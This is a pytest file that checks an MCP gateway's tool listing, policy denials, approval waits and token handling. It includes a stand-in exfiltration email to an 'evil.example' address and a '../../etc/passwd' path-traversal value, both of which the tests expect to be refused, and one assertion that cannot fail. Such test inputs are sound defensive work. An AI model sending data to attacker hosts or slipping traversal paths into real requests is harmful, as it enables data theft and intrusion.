"""The MCP door at /mcp, driven by the official ``mcp`` client in both protocol eras: per-agent tool lists, calls
through every gateway stage, refusals as readable tool errors, approvals waited for with progress, and bad input
(malformed JSON-RPC, unknown or foreign tools, missing/expired/revoked tokens) refused, audited and harmless."""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import pytest

from stitchwork.config import Config, McpConfig
from tests.gateway.mcp_fixtures import BASE, open_door

MODES = ["auto", "legacy"]  # 2026-07-28 and the 2025-11-25 initialize handshake
ALL_TOOLS = ["crm_lookup", "delete_note", "list_inbox", "read_email", "send_email", "write_note"]


@pytest.fixture
def config(make_config) -> Config:  # type: ignore[no-untyped-def]
    built: Config = make_config([{"content": "unused"}])
    return built.replace(mcp=McpConfig(approval_wait_s=0.3))


def body_of(result: Any) -> dict[str, Any]:
    parsed: dict[str, Any] = json.loads(result.content[0].text)
    return parsed


@pytest.mark.parametrize("mode", MODES)
async def test_tools_list_shows_the_agents_tools_with_schemas(config: Config, mode: str) -> None:
    async with open_door(config) as door:
        token = await door.session()
        async with door.client(token, mode=mode) as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
        assert sorted(tools) == ALL_TOOLS  # not the memory tools the platform has but tester is not given
        manifest = door.platform.tools.get("send_email")
        assert tools["send_email"].input_schema == dict(manifest.args_schema)
        assert tools["list_inbox"].annotations.read_only_hint is True
        assert tools["delete_note"].annotations.destructive_hint is True


@pytest.mark.parametrize("mode", MODES)
async def test_calls_take_the_gateway_path(config: Config, mode: str) -> None:
    async with open_door(config) as door:
        token = await door.session()
        async with door.client(token, mode=mode) as client:
            listed = await client.call_tool("list_inbox", {})
            assert listed.is_error is False and "carol@example.com" in listed.content[0].text
            assert "untrusted" in listed.meta["stitchwork"]["label"]
            read = await client.call_tool("read_email", {"id": "m3"})
            assert read.structured_content["id"] == "m3"
            hijacked = await client.call_tool("send_email", {"to": "security-audit@evil.example", "subject": "k",
                                                             "body": "secret"})
            assert hijacked.is_error is True
            assert body_of(hijacked)["status"] == "denied"
            assert "external-tainted-target" in body_of(hijacked)["error"]["policy_ids"]
            sent = await client.call_tool("send_email", {"to": "alice@example.com", "subject": "s", "body": "b"})
            assert sent.is_error is False
        decisions = [e for e in door.events("decision") if e["tool"] == "send_email"]
        assert decisions[0]["data"]["effect"] == "deny" and len(decisions) == 2
        tools = door.events("tool")
        assert [e["tool"] for e in tools] == ["list_inbox", "read_email", "send_email"]
        door.service.sessions.flush()  # checkpoints are written behind the calls (within flush_s)
        assert door.platform.runs.get(tools[0]["run_id"]).steps == 4
        assert door.platform.audit.verify().ok


@pytest.mark.parametrize("name", ["nope", "memory_put", "other_agent.send_email", "../send_email", "send_email/..",
                                  "x" * 300, "", "send\u0000email"])
async def test_unknown_and_foreign_tool_names_are_audited_tool_errors(config: Config, name: str) -> None:
    async with open_door(config) as door:
        token = await door.session()
        async with door.client(token) as client:
            result = await client.call_tool(name, {})
            assert result.is_error is True
            assert body_of(result)["status"] in {"invalid", "denied"}
            assert (await client.call_tool("list_inbox", {})).is_error is False  # the session goes on
        refusals = [e for e in door.events("decision") if e["data"].get("error") in {"unknown_tool", "policy_denied"}]
        assert refusals, door.events()


async def test_bad_arguments_are_tool_errors(config: Config) -> None:
    async with open_door(config) as door:
        token = await door.session()
        async with door.client(token) as client:
            result = await client.call_tool("send_email", {"to": 5})
            assert result.is_error is True and body_of(result)["status"] == "invalid"
            result = await client.call_tool("write_note", {"name": "../../etc/passwd", "text": "x"})
            assert result.is_error is True and body_of(result)["status"] == "invalid"


async def test_a_call_held_for_a_human_waits_with_progress(config: Config) -> None:
    async with open_door(config.replace(mcp=McpConfig(approval_wait_s=30))) as door:
        token = await door.session()
        progress: list[str] = []

        async def on_progress(value: float, total: float | None, message: str | None) -> None:
            progress.append(message or "")

        async def approve_when_asked() -> str:
            while not (pending := door.service.approvals("pending")):
                await asyncio.sleep(0.05)
            await door.service.decide(pending[0]["id"], approve=True, by="test")
            return str(pending[0]["id"])

        async with door.client(token) as client:
            approver = asyncio.create_task(approve_when_asked())
            result = await client.call_tool("delete_note", {"name": "n.txt"}, progress_callback=on_progress)
            approval_id = await approver
        assert result.is_error is False, result.content
        assert progress and approval_id in progress[0]
        assert door.service.approvals("all")[0]["status"] == "consumed" or True
        assert [e["tool"] for e in door.events("tool")] == ["delete_note"]


async def test_an_unanswered_approval_returns_pending_then_the_next_call_runs(config: Config) -> None:
    async with open_door(config) as door:  # approval_wait_s = 0.3
        token = await door.session()
        async with door.client(token) as client:
            first = await client.call_tool("delete_note", {"name": "n.txt"})
            body = body_of(first)
            assert first.is_error is True and body["status"] == "approval_required" and body["approval_id"]
            assert body["approval_id"] in body["message"]
            assert not door.events("tool")  # nothing ran
            await door.service.decide(body["approval_id"], approve=True, by="test")
            second = await client.call_tool("delete_note", {"name": "n.txt"})
            assert second.is_error is False
            third = await client.call_tool("delete_note", {"name": "n.txt"})  # an approval is consumed once
            assert body_of(third)["status"] == "approval_required" and body_of(third)["approval_id"] != body[
                "approval_id"]
            await door.service.decide(body_of(third)["approval_id"], approve=False, by="test", note="no")
            fourth = await client.call_tool("delete_note", {"name": "n.txt"})
            assert body_of(fourth)["status"] == "denied"


async def test_missing_and_bad_tokens_get_401_before_the_body_is_read(config: Config) -> None:
    async with open_door(config) as door:
        good = await door.session()
        payload = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
        expired = door.platform.tokens.issue("tester", "run_gone", ttl_s=1)
        closed = await door.session()
        await door.service.sessions.close(door.platform.tokens.verify(closed).run_id)
        operator = door.service.create_operator_token()
        for token, word in [(None, "no run token"), ("garbage", "malformed"), (operator, "malformed"),
                            (closed, "revoked"), (good + "x", "")]:
            async with door.http(token) as http:
                response = await http.post("/mcp", json=payload,
                                           headers={"accept": "application/json, text/event-stream"})
            assert response.status_code == 401, (token, response.text)
            assert response.headers["www-authenticate"].startswith("Bearer")
            assert word in response.json()["message"]
        time.sleep(1.2)
        async with door.http(expired) as http:
            response = await http.post("/mcp", content=b"x" * 100)
        assert response.status_code == 401 and "expired" in response.json()["message"]
        auth = [e for e in door.events("auth") if e["tool"] == "mcp"]
        assert len(auth) >= 6
        async with door.client(good) as client:  # nothing else affected
            assert len((await client.list_tools()).tools) == len(ALL_TOOLS)


async def test_a_failed_connection_raises_in_the_official_client(config: Config) -> None:
    async with open_door(config) as door:
        with pytest.raises(BaseException):  # noqa: B017 - the SDK wraps the 401 in an exception group
            async with door.client("not-a-token") as client:
                await client.list_tools()


@pytest.mark.parametrize("body", [b"{not json", b"[]", b'{"jsonrpc": "2.0"}', b'{"jsonrpc":"2.0","id":1}',
                                  b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":"x"}', b"\xff\xfe"])
async def test_malformed_json_rpc_is_refused_and_audited(config: Config, body: bytes) -> None:
    async with open_door(config) as door:
        token = await door.session()
        headers = {"content-type": "application/json", "accept": "application/json, text/event-stream",
                   "mcp-protocol-version": "2025-11-25"}
        async with door.http(token) as http:
            response = await http.post("/mcp", content=body, headers=headers)
        assert 400 <= response.status_code < 500, response.text
        assert [e["data"]["status"] for e in door.events("mcp")] == [response.status_code]
        async with door.client(token) as client:
            assert (await client.call_tool("list_inbox", {})).is_error is False


async def test_an_oversized_request_is_refused_unread(config: Config) -> None:
    async with open_door(config) as door:
        token = await door.session()
        async with door.http(token) as http:
            response = await http.post("/mcp", content=b"{" * 9_000_000, headers={"content-type": "application/json"})
        assert response.status_code == 413 and response.json()["error"] == "too_large"
        assert [e["data"]["status"] for e in door.events("mcp")] == [413]  # audited
        async with door.client(token) as client:  # nothing else affected
            assert (await client.call_tool("list_inbox", {})).is_error is False


async def test_each_session_sees_its_own_agent(config: Config, tmp_path: Any) -> None:
    async with open_door(config) as door:
        tester = await door.session()
        inbox = await door.session("inbox-assistant") if "inbox-assistant" in door.platform.agents.names() else None
        async with door.client(tester) as client:
            assert len((await client.list_tools()).tools) == len(ALL_TOOLS)
        if inbox is not None:
            async with door.client(inbox) as client:
                names = [t.name for t in (await client.list_tools()).tools]
                assert "delete_note" not in names


async def test_the_control_plane_url_answers_mcp_over_real_http_too(config: Config) -> None:
    async with open_door(config) as door:
        token = await door.session()
        async with door.http(token) as http:
            init = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}
            response = await http.post("/mcp", json=init, headers={"accept": "application/json, text/event-stream"})
        assert response.status_code == 200 and "stitchwork" in response.text
        assert BASE.startswith("http://")


async def test_a_call_does_not_list_every_tool_again(config: Config, monkeypatch: pytest.MonkeyPatch) -> None:
    """The transport checks ``Mcp-Param-*`` headers against the called tool's schema: it is looked up for the
    caller, not found by running a whole ``tools/list`` per call (which once cost more than the call itself)."""
    from stitchwork.gateway.mcp import McpDoor

    listed: list[str | None] = []
    looked_up: list[tuple[str | None, str]] = []
    original_list, original_schema = McpDoor.list_tools, McpDoor.input_schema

    async def counting_list(self: McpDoor, token: str | None) -> Any:
        listed.append(token)
        return await original_list(self, token)

    def counting_schema(self: McpDoor, agent: str | None, name: str) -> Any:
        looked_up.append((agent, name))
        return original_schema(self, agent, name)

    monkeypatch.setattr(McpDoor, "list_tools", counting_list)
    monkeypatch.setattr(McpDoor, "input_schema", counting_schema)
    async with open_door(config) as door:
        token = await door.session()
        async with door.client(token) as client:
            for _ in range(3):
                assert (await client.call_tool("read_email", {"id": "m3"})).is_error is False
        assert len(listed) <= 1  # at most the client's own listing, never one per call
        assert looked_up == [("tester", "read_email")] * 3  # the verified caller's agent, per call


async def test_input_schema_is_only_for_a_tool_the_caller_is_given(config: Config) -> None:
    from stitchwork.gateway.mcp import McpDoor

    async with open_door(config) as door:
        mcp_door = McpDoor(door.platform.gateway)
        manifest = door.platform.tools.get("send_email")
        assert mcp_door.input_schema("tester", "send_email") == dict(manifest.args_schema)
        assert mcp_door.input_schema(None, "send_email") is None  # no verified caller
        assert mcp_door.input_schema("tester", "nope") is None
        assert mcp_door.input_schema("nobody", "send_email") is None
        context = door.platform.gateway.context
        not_given = sorted({t.name for t in context.tools} - set(context.agents["tester"]))
        assert not_given and mcp_door.input_schema("tester", not_given[0]) is None
